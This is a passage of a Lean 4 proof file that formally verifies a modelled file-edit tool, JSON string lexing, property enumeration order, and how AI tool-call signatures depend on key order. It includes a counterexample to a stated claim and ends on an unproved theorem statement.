    (hinside : (stripPrefix env.cwd (path.resolve env.cwd p)).isSome = true)
    (haccess : fs.access d.state (path.resolve env.cwd p) = .ok ())
    (hread : fs.readFile d.state (path.resolve env.cwd p) = .ok content) :
    fileEditTool fs env d args =
      match editedContent content args with
      | .thrown t =>
        (.thrown (wrapError (u16 "Failed to edit file: ") t),
          ⟨d.state, d.calls ++ [.access (path.resolve env.cwd p),
            .readFile (path.resolve env.cwd p)]⟩)
      | .unmodelled =>
        (.unmodelled,
          ⟨d.state, d.calls ++ [.access (path.resolve env.cwd p),
            .readFile (path.resolve env.cwd p)]⟩)
      | .returned edited =>
        match fs.writeFile d.state (path.resolve env.cwd p) edited with
        | .error e =>
          (.thrown (editFsFailure p e),
            ⟨d.state, d.calls ++ [.access (path.resolve env.cwd p),
              .readFile (path.resolve env.cwd p), .writeFile (path.resolve env.cwd p) edited]⟩)
        | .ok st =>
          (.returned (.str (u16 "File " ++ p ++ u16 " updated successfully")),
            ⟨st, d.calls ++ [.access (path.resolve env.cwd p),
              .readFile (path.resolve env.cwd p), .writeFile (path.resolve env.cwd p) edited]⟩) := by
  have hnull := get_isNull hpath
  have htruthy : truthyOpt (some (Json.str p)) = true := by
    simp [truthyOpt, Json.truthy, hp]
  have hnone : (stripPrefix env.cwd (path.resolve env.cwd p)).isNone = false := by
    cases h : stripPrefix env.cwd (path.resolve env.cwd p) with
    | none => rw [h] at hinside; simp at hinside
    | some r => rfl
  unfold fileEditTool
  rw [hnull, hpath, htruthy, hmode]
  simp only [Bool.false_eq_true, if_false, Bool.not_true, hnone, haccess, hread, Disk.log,
    List.append_assoc, List.singleton_append]
  cases editedContent content args with
  | returned edited =>
    simp only []
    cases fs.writeFile d.state (path.resolve env.cwd p) edited <;> rfl
  | thrown t => rfl
  | unmodelled => rfl

/-! ### Lines of a text -/

theorem splitOn_plain (sep : Nat) : ∀ x : JsString, sep ∉ x → splitOn sep x = [x] := by
  intro x
  induction x with
  | nil => intro _; rfl
  | cons c cs ih =>
    intro h
    have hc : c ≠ sep := fun e => h (by simp [e])
    have hcs : sep ∉ cs := fun hm => h (List.mem_cons_of_mem _ hm)
    simp only [splitOn, hc, if_false, ih hcs]

theorem splitOn_append (sep : Nat) (t : JsString) :
    ∀ x : JsString, sep ∉ x → splitOn sep (x ++ sep :: t) = x :: splitOn sep t := by
  intro x
  induction x with
  | nil => intro _; simp [splitOn]
  | cons c cs ih =>
    intro h
    have hc : c ≠ sep := fun e => h (by simp [e])
    have hcs : sep ∉ cs := fun hm => h (List.mem_cons_of_mem _ hm)
    rw [List.cons_append]
    simp only [splitOn, hc, if_false, ih hcs]

theorem splitOn_no_sep (sep : Nat) : ∀ (s : JsString), ∀ l ∈ splitOn sep s, sep ∉ l := by
  intro s
  induction s with
  | nil => intro l hl; simp [splitOn] at hl; subst hl; simp
  | cons c cs ih =>
    intro l hl
    by_cases hc : c = sep
    · simp only [splitOn, hc, if_true, List.mem_cons] at hl
      rcases hl with rfl | hl
      · simp
      · exact ih l hl
    · simp only [splitOn, hc, if_false] at hl
      cases hsp : splitOn sep cs with
      | nil =>
        rw [hsp] at hl
        simp only [List.mem_singleton] at hl
        subst hl
        simpa using fun e : sep = c => hc e.symm
      | cons seg rest =>
        rw [hsp] at hl ih
        simp only [List.mem_cons] at hl
        rcases hl with rfl | hl
        · have := ih seg (by simp)
          simp only [List.mem_cons, not_or]
          exact ⟨fun e => hc e.symm, this⟩
        · exact ih l (by simp [hl])

/-- Splitting the joined lines gives the lines back, when there is a line at all. -/
theorem splitOn_joinWith (sep : Nat) :
    ∀ lines : List JsString, lines ≠ [] → (∀ l ∈ lines, sep ∉ l) →
      splitOn sep (joinWith sep lines) = lines := by
  intro lines
  induction lines with
  | nil => intro h; exact absurd rfl h
  | cons x rest ih =>
    intro _ hno
    cases rest with
    | nil => exact splitOn_plain sep x (hno x (by simp))
    | cons y rest2 =>
      simp only [joinWith]
      rw [splitOn_append sep _ x (hno x (by simp)),
        ih (by simp) (fun l hl => hno l (List.mem_cons_of_mem _ hl))]

/-! ### C11: the signature and the order of the keys -/

theorem lookupProp_absent (k : JsString) :
    ∀ kvs : List (JsString × Json), k ∉ kvs.map Prod.fst → lookupProp k kvs = none := by
  intro kvs
  induction kvs with
  | nil => intro _; rfl
  | cons kv rest ih =>
    obtain ⟨k', v⟩ := kv
    intro h
    have hne : k' ≠ k := fun e => h (by simp [e])
    have hrest : k ∉ rest.map Prod.fst := fun hm => h (by simp at hm ⊢; exact Or.inr hm)
    simp only [lookupProp, hne, if_false]
    exact ih hrest

theorem props_eq_of_lookup :
    ∀ a b : List (JsString × Json), (a.map Prod.fst).Nodup →
      a.map Prod.fst = b.map Prod.fst → (∀ k, lookupProp k a = lookupProp k b) → a = b := by
  intro a
  induction a with
  | nil =>
    intro b _ hkeys _
    cases b with
    | nil => rfl
    | cons kv rest => simp at hkeys
  | cons kv rest ih =>
    intro b hnodup hkeys hlook
    obtain ⟨k, v⟩ := kv
    cases b with
    | nil => simp at hkeys
    | cons kv2 rest2 =>
      obtain ⟨k2, v2⟩ := kv2
      simp only [List.map_cons, List.cons.injEq] at hkeys
      obtain ⟨hk, hrestKeys⟩ := hkeys
      subst hk
      simp only [List.map_cons, List.nodup_cons] at hnodup
      have hv : v = v2 := by
        have := hlook k
        simpa [lookupProp] using this
      subst hv
      have hrest : rest = rest2 := by
        apply ih rest2 hnodup.2 hrestKeys
        intro k'
        by_cases hkk : k = k'
        · subst hkk
          rw [lookupProp_absent k rest hnodup.1,
            lookupProp_absent k rest2 (hrestKeys ▸ hnodup.1)]
        · have := hlook k'
          simpa [lookupProp, hkk] using this
      rw [hrest]

/-- C11 as stated fails: the texts `{"command":"ls","cwd":"/tmp"}` and
`{"cwd":"/tmp","command":"ls"}` parse to two argument objects that bind the same keys to
the same values (every property read gives the same result on both), and the tool
signatures of the two differ, because `JSON.stringify` writes the properties in the
order in which they were created. -/
theorem toolSignature_depends_on_key_order :
    JSON.parse (u16 "\x7b\"command\":\"ls\",\"cwd\":\"/tmp\"\x7d")
      = some (.obj [(u16 "command", .str (u16 "ls")), (u16 "cwd", .str (u16 "/tmp"))]) ∧
    JSON.parse (u16 "\x7b\"cwd\":\"/tmp\",\"command\":\"ls\"\x7d")
      = some (.obj [(u16 "cwd", .str (u16 "/tmp")), (u16 "command", .str (u16 "ls"))]) ∧
    (∀ k, Json.get (.obj [(u16 "command", .str (u16 "ls")), (u16 "cwd", .str (u16 "/tmp"))]) k
      = Json.get (.obj [(u16 "cwd", .str (u16 "/tmp")), (u16 "command", .str (u16 "ls"))]) k) ∧
    toolSignature (u16 "BashTool")
        (.obj [(u16 "command", .str (u16 "ls")), (u16 "cwd", .str (u16 "/tmp"))])
      = u16 "BashTool(\x7b\"command\":\"ls\",\"cwd\":\"/tmp\"\x7d)" ∧
    toolSignature (u16 "BashTool")
        (.obj [(u16 "cwd", .str (u16 "/tmp")), (u16 "command", .str (u16 "ls"))])
      = u16 "BashTool(\x7b\"cwd\":\"/tmp\",\"command\":\"ls\"\x7d)" ∧
    toolSignature (u16 "BashTool")
        (.obj [(u16 "command", .str (u16 "ls")), (u16 "cwd", .str (u16 "/tmp"))])
      ≠ toolSignature (u16 "BashTool")
        (.obj [(u16 "cwd", .str (u16 "/tmp")), (u16 "command", .str (u16 "ls"))]) := by
  refine ⟨by rfl, by rfl, ?_, by rfl, by rfl, by decide⟩
  intro k
  have hne : u16 "command" ≠ u16 "cwd" := by decide
  by_cases h1 : u16 "command" = k
  · subst h1
    simp [Json.get, lookupProp, hne.symm]
  · by_cases h2 : u16 "cwd" = k
    · subst h2
      simp [Json.get, lookupProp, hne]
    · simp [Json.get, lookupProp, h1, h2]

/-! #### A quoted string read back

The lexer of `JSON.parse` reads the text that `JSON.stringify` writes for a string and
finds the string and the text after the closing quote, so the quoted key at the start of
a text determines the key and the rest. -/

theorem hexVal_hexDigit (n : Nat) (h : n < 16) : hexVal (hexDigit n) = some n := by
  interval_cases n <;> rfl

theorem lexString_plain (c : Nat) (X : JsString) (h32 : ¬ c < 32) (h34 : c ≠ 34) (h92 : c ≠ 92) :
    lexString (c :: X) = (lexString X).map fun p => (c :: p.1, p.2) := by
  rw [lexString]
  · simp [h32, h92]
  · intro e; exact h34 e
  · intro a b c' d r e _; exact h92 e
  · intro e' r e _; exact h92 e

theorem lexString_short (e c : Nat) (X : JsString) (he : e ≠ 117)
    (hu : (if e = 34 then some 34 else if e = 92 then some 92 else if e = 47 then some 47
      else if e = 98 then some 8 else if e = 102 then some 12 else if e = 110 then some 10
      else if e = 114 then some 13 else if e = 116 then some 9 else none) = some c) :
    lexString (92 :: e :: X) = (lexString X).map fun p => (c :: p.1, p.2) := by
  rw [lexString]
  · simp only [hu]
  · intro a b c' d r h _; exact he h

theorem lexString_unicodeEscape (c : Nat) (X : JsString) (hc : c < 65536) :
    lexString (unicodeEscape c ++ X) = (lexString X).map fun p => (c :: p.1, p.2) := by
  have h1 := hexVal_hexDigit (c / 4096 % 16) (Nat.mod_lt _ (by decide))
  have h2 := hexVal_hexDigit (c / 256 % 16) (Nat.mod_lt _ (by decide))
  have h3 := hexVal_hexDigit (c / 16 % 16) (Nat.mod_lt _ (by decide))
  have h4 := hexVal_hexDigit (c % 16) (Nat.mod_lt _ (by decide))
  have hv : c / 4096 % 16 * 4096 + c / 256 % 16 * 256 + c / 16 % 16 * 16 + c % 16 = c := by omega
  simp only [unicodeEscape, List.cons_append, List.nil_append]
  rw [lexString]
  simp only [h1, h2, h3, h4, hv]

theorem lexString_quoteUnit (c : Nat) (X : JsString) :
    lexString (quoteUnit c ++ X) = (lexString X).map fun p => (c :: p.1, p.2) := by
  unfold quoteUnit
  split_ifs with h8 h9 h10 h12 h13 h34 h92 h32 hs
  · subst h8; exact lexString_short 98 8 X (by decide) (by rfl)
  · subst h9; exact lexString_short 116 9 X (by decide) (by rfl)
  · subst h10; exact lexString_short 110 10 X (by decide) (by rfl)
  · subst h12; exact lexString_short 102 12 X (by decide) (by rfl)
  · subst h13; exact lexString_short 114 13 X (by decide) (by rfl)
  · subst h34; exact lexString_short 34 34 X (by decide) (by rfl)
  · subst h92; exact lexString_short 92 92 X (by decide) (by rfl)
  · exact lexString_unicodeEscape c X (by omega)
  · exact lexString_unicodeEscape c X (by omega)
  · exact lexString_plain c X h32 h34 h92

/-- Reading back a quoted string: the lexer of `JSON.parse` gives the string and the text
after the closing quote. -/
theorem lexString_quoteChars : ∀ (n : Nat) (s : JsString), s.length ≤ n → ∀ r : JsString,
    lexString (quoteChars s ++ 34 :: r) = some (s, r) := by
  intro n
  induction n with
  | zero =>
    intro s hs r
    cases s with
    | nil => simp [quoteChars, lexString]
    | cons c t => simp at hs
  | succ n ih =>
    intro s hs r
    match s, hs with
    | [], _ => simp [quoteChars, lexString]
    | [c], _ =>
      rw [quoteChars, lexString_quoteUnit]
      simp [lexString]
    | c :: d :: rest, hs =>
      rw [quoteChars]
      split_ifs with hp
      · simp only [List.cons_append]
        rw [lexString_plain c _ (by omega) (by omega) (by omega),
          lexString_plain d _ (by omega) (by omega) (by omega),
          ih rest (by simp at hs; omega) r]
        rfl
      · rw [List.append_assoc, lexString_quoteUnit, ih (d :: rest) (by simp at hs ⊢; omega) r]
        rfl

/-- A text starts with at most one quoted string. -/
theorem quoteJson_cancel (k1 k2 r1 r2 : JsString)
    (h : quoteJson k1 ++ r1 = quoteJson k2 ++ r2) : k1 = k2 ∧ r1 = r2 := by
  simp only [quoteJson, List.cons_append, List.append_assoc, List.cons.injEq, true_and] at h
  have e1 := lexString_quoteChars k1.length k1 (le_refl _) r1
  have e2 := lexString_quoteChars k2.length k2 (le_refl _) r2
  simp only [List.nil_append] at h
  rw [h, e2] at e1
  simpa using e1.symm

/-! #### The members text determines the property list -/

theorem stringifyMembers_cons (k : JsString) (v : Json) (rest : List (JsString × Json)) :
    stringifyMembers ((k, v) :: rest)
      = quoteJson k ++ (58 :: JSON.stringify v
          ++ (if rest.isEmpty then [] else 44 :: stringifyMembers rest)) := by
  cases rest with
  | nil => simp [stringifyMembers]
  | cons m rest => simp [stringifyMembers]

/-- Two property lists with distinct keys that bind the same keys to the same values and
are written as the same text are the same list. -/
theorem stringifyMembers_inj :
    ∀ a b : List (JsString × Json), (a.map Prod.fst).Nodup → (b.map Prod.fst).Nodup →
      (∀ k, lookupProp k a = lookupProp k b) → stringifyMembers a = stringifyMembers b →
      a = b := by
  intro a
  induction a with
  | nil =>
    intro b _ _ hlook _
    cases b with
    | nil => rfl
    | cons kv rest =>
      have := hlook kv.1
      simp [lookupProp] at this
  | cons kv ra ih =>
    intro b hna hnb hlook hs
    obtain ⟨k1, v1⟩ := kv
    cases b with
    | nil =>
      have := hlook k1
      simp [lookupProp] at this
    | cons kv2 rb =>
      obtain ⟨k2, v2⟩ := kv2
      rw [stringifyMembers_cons, stringifyMembers_cons] at hs
      obtain ⟨hk, hr⟩ := quoteJson_cancel _ _ _ _ hs
      subst hk
      simp only [List.map_cons, List.nodup_cons] at hna hnb
      have hv : v1 = v2 := by
        have := hlook k1
        simpa [lookupProp] using this
      subst hv
      have hlook2 : ∀ k, lookupProp k ra = lookupProp k rb := by
        intro k'
        by_cases hkk : k1 = k'
        · subst hkk
          rw [lookupProp_absent k1 ra hna.1, lookupProp_absent k1 rb hnb.1]
        · have := hlook k'
          simpa [lookupProp, hkk] using this
      have hempty : ra = [] ↔ rb = [] := by
        constructor
        · intro e
          subst e
          cases rb with
          | nil => rfl
          | cons kv3 _ =>
            have := hlook2 kv3.1
            simp [lookupProp] at this
        · intro e
          subst e
          cases ra with
          | nil => rfl
          | cons kv3 _ =>
            have := hlook2 kv3.1
            simp [lookupProp] at this
      have hrest : ra = rb := by
        by_cases he : ra = []
        · rw [he, hempty.mp he]
        · have he2 : rb ≠ [] := fun e => he (hempty.mpr e)
          have e1 : ra.isEmpty = false := by cases ra with
            | nil => exact absurd rfl he
            | cons _ _ => rfl
          have e2 : rb.isEmpty = false := by cases rb with
            | nil => exact absurd rfl he2
            | cons _ _ => rfl
          simp only [List.cons_append, List.cons.injEq, true_and, e1, e2, Bool.false_eq_true,
            if_false] at hr
          have hr2 := List.append_cancel_left hr
          simp only [List.cons.injEq, true_and] at hr2
          exact ih rb hna.2 hnb.2 hlook2 hr2
      rw [hrest]

/-- Two objects with distinct keys that bind the same keys to the same values and have the
same signature enumerate their properties in the same order. -/
theorem toolSignature_obj_inj (name : JsString) (a b : List (JsString × Json))
    (hna : (a.map Prod.fst).Nodup) (hnb : (b.map Prod.fst).Nodup)
    (hlook : ∀ k, lookupProp k a = lookupProp k b)
    (h : toolSignature name (.obj a) = toolSignature name (.obj b)) : a = b := by
  simp only [toolSignature, JSON.stringify] at h
  have h1 := List.append_cancel_left h
  simp only [List.cons.injEq, true_and, List.cons_append] at h1
  have h2 := List.append_cancel_right h1
  have h3 := List.append_cancel_right h2
  exact stringifyMembers_inj a b hna hnb hlook h3

/-! #### Array-index keys -/

theorem digitsToNat_eq_ofDigits (ds : List Nat) :
    digitsToNat ds = Nat.ofDigits 10 (ds.reverse.map (fun c => c - 48)) := by
  unfold digitsToNat
  rw [← List.foldr_reverse]
  induction ds.reverse with
  | nil => rfl
  | cons c t ih =>
    simp only [List.foldr_cons, List.map_cons, Nat.ofDigits_cons, ih]
    omega

theorem arrayIndex_some (k : JsString) (i : Nat) (h : arrayIndex k = some i) :
    (∀ c ∈ k, 48 ≤ c ∧ c ≤ 57) ∧ k ≠ [] ∧ (k.head? ≠ some 48 ∨ k = [48]) ∧ digitsToNat k = i := by
  unfold arrayIndex at h
  split_ifs at h with hc
  simp only [Bool.and_eq_true, List.all_eq_true, bne_iff_ne, ne_eq, Bool.or_eq_true,
    beq_iff_eq, decide_eq_true_eq] at hc
  obtain ⟨⟨⟨hd, hne⟩, hlead⟩, _⟩ := hc
  refine ⟨fun c hcm => by simpa [isDigit] using hd c hcm, hne, ?_, by simpa using h⟩
  rcases hlead with h1 | h1
  · exact Or.inl h1
  · by_cases h0 : k.head? = some 48
    · right
      match k, h1, h0 with
      | [c], _, h0 => simpa using h0
    · exact Or.inl h0

theorem canonical_digits (k : JsString) (hd : ∀ c ∈ k, 48 ≤ c ∧ c ≤ 57) (hne : k ≠ [])
    (hlead : k.head? ≠ some 48) :
    Nat.digits 10 (digitsToNat k) = k.reverse.map (fun c => c - 48) := by
  rw [digitsToNat_eq_ofDigits]
  apply Nat.digits_ofDigits 10 (by decide)
  · intro l hl
    simp only [List.mem_map, List.mem_reverse] at hl
    obtain ⟨c, hc, rfl⟩ := hl
    have := hd c hc
    omega
  · intro hnil
    cases k with
    | nil => exact absurd rfl hne
    | cons c t =>
      have hc := hd c (by simp)
      simp only [List.head?_cons, ne_eq, Option.some.injEq] at hlead
      simp only [List.reverse_cons, List.map_append, List.map_cons, List.map_nil,
        List.getLast_append_singleton]
      omega

/-- Two keys that denote the same array index are the same key. -/
theorem arrayIndex_inj (k1 k2 : JsString) (i : Nat)
    (h1 : arrayIndex k1 = some i) (h2 : arrayIndex k2 = some i) : k1 = k2 := by
  obtain ⟨hd1, hne1, hl1, hv1⟩ := arrayIndex_some k1 i h1
  obtain ⟨hd2, hne2, hl2, hv2⟩ := arrayIndex_some k2 i h2
  have hzero : ∀ k : JsString, (∀ c ∈ k, 48 ≤ c ∧ c ≤ 57) → k ≠ [] → k.head? ≠ some 48 →
      digitsToNat k ≠ 0 := by
    intro k hd hne hl h0
    have := canonical_digits k hd hne hl
    rw [h0] at this
    simp only [Nat.digits_zero] at this
    have hk : k = [] := by simpa using this.symm
    exact hne hk
  rcases hl1 with hl1 | hl1 <;> rcases hl2 with hl2 | hl2
  · have e1 := canonical_digits k1 hd1 hne1 hl1
    have e2 := canonical_digits k2 hd2 hne2 hl2
    rw [hv1] at e1
    rw [hv2, e1] at e2
    have e3 : k1.map (fun c => c - 48) = k2.map (fun c => c - 48) := by
      have := congrArg List.reverse e2
      simpa [List.map_reverse] using this
    apply List.ext_getElem
    · simpa using congrArg List.length e3
    · intro n hn1 hn2
      have e4 := congrArg (fun l => l[n]?) e3
      simp only [List.getElem?_map, List.getElem?_eq_getElem hn1, List.getElem?_eq_getElem hn2,
        Option.map_some', Option.some.injEq] at e4
      have b1 := hd1 _ (List.getElem_mem hn1)
      have b2 := hd2 _ (List.getElem_mem hn2)
      omega
  · subst hl2
    exact absurd (hv1.trans hv2.symm) (hzero k1 hd1 hne1 hl1)
  · subst hl1
    exact absurd (hv2.trans hv1.symm) (hzero k2 hd2 hne2 hl2)
  · rw [hl1, hl2]

/-! #### The enumeration order of a created object -/

theorem hasOwn_iff (k : JsString) :
    ∀ kvs : List (JsString × Json), hasOwn k kvs = true ↔ k ∈ kvs.map Prod.fst := by
  intro kvs
  induction kvs with
  | nil => simp [hasOwn]
  | cons kv rest ih =>
    obtain ⟨k', v⟩ := kv
    simp only [hasOwn, Bool.or_eq_true, beq_iff_eq, ih, List.map_cons, List.mem_cons]
    constructor
    · rintro (h | h)
      · exact Or.inl h.symm
      · exact Or.inr h
    · rintro (h | h)
      · exact Or.inl h.symm
      · exact Or.inr h

theorem replaceProp_keys (k : JsString) (v : Json) :
    ∀ kvs : List (JsString × Json), (replaceProp k v kvs).map Prod.fst = kvs.map Prod.fst := by
  intro kvs
  induction kvs with
  | nil => rfl
  | cons kv rest ih =>
    obtain ⟨k', v'⟩ := kv
    simp only [replaceProp]
    split_ifs
    · rfl
    · simp only [List.map_cons, ih]

/-- Where a new array-index key is placed: among the index keys, which stay in ascending
order, and before every other key. -/
theorem insertIndexProp_keys (i : Nat) (k : JsString) (v : Json) (hk : arrayIndex k = some i)
    (named : List JsString) (hnamed : ∀ q ∈ named, arrayIndex q = none) :
    ∀ (K : List JsString) (kvs : List (JsString × Json)),
      kvs.map Prod.fst = K ++ named →
      (∀ p ∈ K, (arrayIndex p).isSome = true) → (∀ p ∈ K, keyIndex p ≠ i) →
      K.Pairwise (fun a b => keyIndex a < keyIndex b) →
      ∃ K2, (insertIndexProp i k v kvs).map Prod.fst = K2 ++ named ∧
        (∀ p, p ∈ K2 ↔ p = k ∨ p ∈ K) ∧
        K2.Pairwise (fun a b => keyIndex a < keyIndex b) := by
  have hki : keyIndex k = i := by simp [keyIndex, hk]
  intro K
  induction K with
  | nil =>
    intro kvs hkeys _ _ _
    refine ⟨[k], ?_, by simp, by simp⟩
    cases kvs with
    | nil =>
      simp only [List.map_nil, List.nil_append] at hkeys
      simp [insertIndexProp, ← hkeys]
    | cons kv rest =>
      obtain ⟨k', v'⟩ := kv
      simp only [List.map_cons, List.nil_append] at hkeys
      have hn : arrayIndex k' = none := hnamed k' (by rw [← hkeys]; simp)
      simp only [insertIndexProp, hn, List.map_cons, ← hkeys]
      rfl
  | cons k0 K0 ih =>
    intro kvs hkeys hidx hfresh hsorted
    cases kvs with
    | nil => simp at hkeys
    | cons kv rest =>
      obtain ⟨k', v'⟩ := kv
      simp only [List.map_cons, List.cons_append, List.cons.injEq] at hkeys
      obtain ⟨hk0, hrest⟩ := hkeys
      subst hk0
      have hs := hidx k' (by simp)
      obtain ⟨j, hj⟩ := Option.isSome_iff_exists.mp hs
      have hkj : keyIndex k' = j := by simp [keyIndex, hj]
      have hne : j ≠ i := by
        have := hfresh k' (by simp)
        rwa [hkj] at this
      rw [List.pairwise_cons] at hsorted
      simp only [insertIndexProp, hj]
      by_cases hlt : j < i
      · simp only [hlt, if_true]
        obtain ⟨K2, e, hmem, hp⟩ := ih rest hrest
          (fun p hp => hidx p (List.mem_cons_of_mem _ hp))
          (fun p hp => hfresh p (List.mem_cons_of_mem _ hp)) hsorted.2
        refine ⟨k' :: K2, by simp [e], ?_, ?_⟩
        · intro p
          simp only [List.mem_cons, hmem]
          tauto
        · rw [List.pairwise_cons]
          refine ⟨?_, hp⟩
          intro p hp2
          rcases (hmem p).mp hp2 with e2 | e2
          · rw [e2, hki, hkj]; exact hlt
          · exact hsorted.1 p e2
      · simp only [hlt, if_false]
        refine ⟨k :: k' :: K0, by simp [hrest], by intro p; simp, ?_⟩
        have hij : i < j := by omega
        rw [List.pairwise_cons, List.pairwise_cons]
        refine ⟨?_, hsorted⟩
        intro p hp2
        rw [hki]
        rcases List.mem_cons.mp hp2 with e2 | e2
        · rw [e2, hkj]; exact hij
        · have := hsorted.1 p e2
          rw [hkj] at this
          omega

/-- One step of object creation keeps the enumeration order: a key that exists keeps its
place, a new array-index key goes to its place among the index keys, any other new key
goes to the end. -/
theorem setProp_order (kvs : List (JsString × Json)) (named : List JsString)
    (k : JsString) (v : Json) (h : EnumerationOrder kvs named) :
    EnumerationOrder (setProp kvs k v)
      (if (arrayIndex k).isSome = true ∨ k ∈ named then named else named ++ [k]) := by
  obtain ⟨K, hkeys, hidx, hnamed, hsorted, hnodup⟩ := h
  unfold setProp
  by_cases hown : hasOwn k kvs = true
  · have hmem : k ∈ K ++ named := by rw [← hkeys]; exact (hasOwn_iff k kvs).mp hown
    have hcond : (arrayIndex k).isSome = true ∨ k ∈ named := by
      rcases List.mem_append.mp hmem with h1 | h1
      · exact Or.inl (hidx k h1)
      · exact Or.inr h1
    rw [if_pos hown, if_pos hcond]
    exact ⟨K, by rw [replaceProp_keys, hkeys], hidx, hnamed, hsorted, hnodup⟩
  · have hnot : k ∉ K ++ named := by
      rw [← hkeys]; exact fun hm => hown ((hasOwn_iff k kvs).mpr hm)
    rw [if_neg hown]
    cases hk : arrayIndex k with
    | some i =>
      rw [if_pos (Or.inl (by rfl))]
      have hfresh : ∀ p ∈ K, keyIndex p ≠ i := by
        intro p hp e
        obtain ⟨j, hj⟩ := Option.isSome_iff_exists.mp (hidx p hp)
        have hji : j = i := by simpa [keyIndex, hj] using e
        rw [hji] at hj
        have := arrayIndex_inj p k i hj hk
        exact hnot (List.mem_append.mpr (Or.inl (this ▸ hp)))
      obtain ⟨K2, e, hmem, hp⟩ :=
        insertIndexProp_keys i k v hk named hnamed K kvs hkeys hidx hfresh hsorted
      refine ⟨K2, e, ?_, hnamed, hp, hnodup⟩
      intro p hp2
      rcases (hmem p).mp hp2 with e2 | e2
      · rw [e2, hk]; rfl
      · exact hidx p e2
    | none =>
      have hcond : ¬ ((none : Option Nat).isSome = true ∨ k ∈ named) := by
        rintro (h1 | h1)
        · simp at h1
        · exact hnot (List.mem_append.mpr (Or.inr h1))
      rw [if_neg hcond]
      refine ⟨K, by simp [hkeys], hidx, ?_, hsorted, ?_⟩
      · intro q hq
        rcases List.mem_append.mp hq with h1 | h1
        · exact hnamed q h1
        · simp only [List.mem_singleton] at h1
          rw [h1]; exact hk
      · rw [List.nodup_append]
        refine ⟨hnodup, by simp, ?_⟩
        intro a ha hb
        simp only [List.mem_singleton] at hb
        exact hnot (List.mem_append.mpr (Or.inr (hb ▸ ha)))

theorem foldl_setProp_order : ∀ (members kvs : List (JsString × Json)) (named : List JsString),
    EnumerationOrder kvs named →
    EnumerationOrder (members.foldl (fun kvs m => setProp kvs m.1 m.2) kvs)
      (members.foldl
        (fun acc m => if (arrayIndex m.1).isSome = true ∨ m.1 ∈ acc then acc else acc ++ [m.1])
        named) := by
  intro members
  induction members with
  | nil => intro kvs named h; exact h
  | cons m rest ih =>
    intro kvs named h
    simp only [List.foldl_cons]
    exact ih _ _ (setProp_order kvs named m.1 m.2 h)

/-- The object that `JSON.parse` builds enumerates the array-index keys first, in
ascending order, and then the other keys in the order of their first insertion. -/
theorem mkObject_order (members : List (JsString × Json)) :
    EnumerationOrder (members.foldl (fun kvs m => setProp kvs m.1 m.2) [])
      (namedKeyOrder members) :=
  foldl_setProp_order members [] [] ⟨[], rfl, by simp, by simp, by simp, by simp⟩

theorem enumerationOrder_nodup (kvs : List (JsString × Json)) (named : List JsString)
    (h : EnumerationOrder kvs named) : (kvs.map Prod.fst).Nodup := by
  obtain ⟨K, hkeys, hidx, hnamed, hsorted, hnodup⟩ := h
  rw [hkeys, List.nodup_append]
  refine ⟨?_, hnodup, ?_⟩
  · exact hsorted.imp (fun hlt e => by rw [e] at hlt; exact Nat.lt_irrefl _ hlt)
  · intro a ha hb
    have h1 := hidx a ha
    rw [hnamed a hb] at h1
    simp at h1

theorem enumerationOrder_named (kvs : List (JsString × Json)) (named : List JsString)
    (h : EnumerationOrder kvs named) :
    (kvs.map Prod.fst).filter (fun k => (arrayIndex k).isNone) = named := by
  obtain ⟨K, hkeys, hidx, hnamed, _, _⟩ := h
  rw [hkeys, List.filter_append]
  have h1 : K.filter (fun k => (arrayIndex k).isNone) = [] := by
    rw [List.filter_eq_nil_iff]
    intro a ha
    have := hidx a ha
    cases hx : arrayIndex a with
    | none => rw [hx] at this; simp at this
    | some _ => simp
  have h2 : named.filter (fun k => (arrayIndex k).isNone) = named := by
    rw [List.filter_eq_self]
    intro a ha
    rw [hnamed a ha]; rfl
  rw [h1, h2, List.nil_append]

theorem lookupProp_isSome (k : JsString) :
    ∀ kvs : List (JsString × Json), (lookupProp k kvs).isSome = true ↔ k ∈ kvs.map Prod.fst := by
  intro kvs
  induction kvs with
  | nil => simp [lookupProp]
  | cons kv rest ih =>
    obtain ⟨k', v⟩ := kv
    simp only [lookupProp, List.map_cons, List.mem_cons]
    by_cases e : k' = k
    · simp [e]
    · have e2 : ¬ k = k' := fun x => e x.symm
      simp [e, e2, ih]

/-- Two enumerations of the same mapping have the same array-index keys in the same
places. -/
theorem enumerationOrder_keys (a b : List (JsString × Json)) (na nb : List JsString)
    (ha : EnumerationOrder a na) (hb : EnumerationOrder b nb)
    (hsame : ∀ k, lookupProp k a = lookupProp k b) (hn : na = nb) :
    a.map Prod.fst = b.map Prod.fst := by
  obtain ⟨Ka, hka, hia, hna, hsa, _⟩ := ha
  obtain ⟨Kb, hkb, hib, hnb, hsb, _⟩ := hb
  have hmem : ∀ k, k ∈ a.map Prod.fst ↔ k ∈ b.map Prod.fst := by
    intro k
    rw [← lookupProp_isSome, ← lookupProp_isSome, hsame k]
  have hK : ∀ k, k ∈ Ka ↔ k ∈ Kb := by
    intro k
    constructor
    · intro hk
      have h1 : k ∈ a.map Prod.fst := by rw [hka]; exact List.mem_append.mpr (Or.inl hk)
      have h2 := (hmem k).mp h1
      rw [hkb] at h2
      rcases List.mem_append.mp h2 with h3 | h3
      · exact h3
      · have := hia k hk
        rw [hnb k h3] at this
        simp at this
    · intro hk
      have h1 : k ∈ b.map Prod.fst := by rw [hkb]; exact List.mem_append.mpr (Or.inl hk)
      have h2 := (hmem k).mpr h1
      rw [hka] at h2
      rcases List.mem_append.mp h2 with h3 | h3
      · exact h3
      · have := hib k hk
        rw [hna k h3] at this
        simp at this
  have hirr : ∀ K : List JsString, K.Pairwise (fun x y => keyIndex x < keyIndex y) → K.Nodup :=
    fun K hs => hs.imp (fun hlt e => by rw [e] at hlt; exact Nat.lt_irrefl _ hlt)
  have hperm : Ka.Perm Kb := (List.perm_ext_iff_of_nodup (hirr Ka hsa) (hirr Kb hsb)).mpr hK
  haveI : IsAntisymm JsString (fun x y => keyIndex x < keyIndex y) :=
    ⟨fun _ _ h1 h2 => absurd h1 (Nat.lt_asymm h2)⟩
  have hKeq : Ka = Kb := List.eq_of_perm_of_sorted hperm hsa hsb
  rw [hka, hkb, hKeq, hn]

/-- C11, amended: for every tool name and every two argument objects created from their
members in some order of insertion (as `JSON.parse` creates them) that bind the same keys
to the same values, the tool signatures are the same string if and only if the keys that
are not array indices were first inserted in the same relative order. Array-index keys
may be inserted anywhere: they are enumerated first, in ascending order. -/
theorem toolSignature_insertion_order (name : JsString) (m1 m2 : List (JsString × Json))
    (hsame : ∀ k, Json.get (mkObject m1) k = Json.get (mkObject m2) k) :
    toolSignature name (mkObject m1) = toolSignature name (mkObject m2)
